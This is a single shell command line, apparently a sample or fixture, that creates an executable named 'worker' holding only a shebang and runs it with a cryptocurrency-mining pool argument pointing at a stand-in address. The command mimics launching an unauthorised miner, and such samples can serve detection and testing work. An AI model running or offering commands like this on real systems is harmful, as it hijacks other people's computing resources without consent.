printf "#!/bin/sh\n" >worker; chmod +x worker; ./worker -o stratum+tcp://203.0.113.7:3333
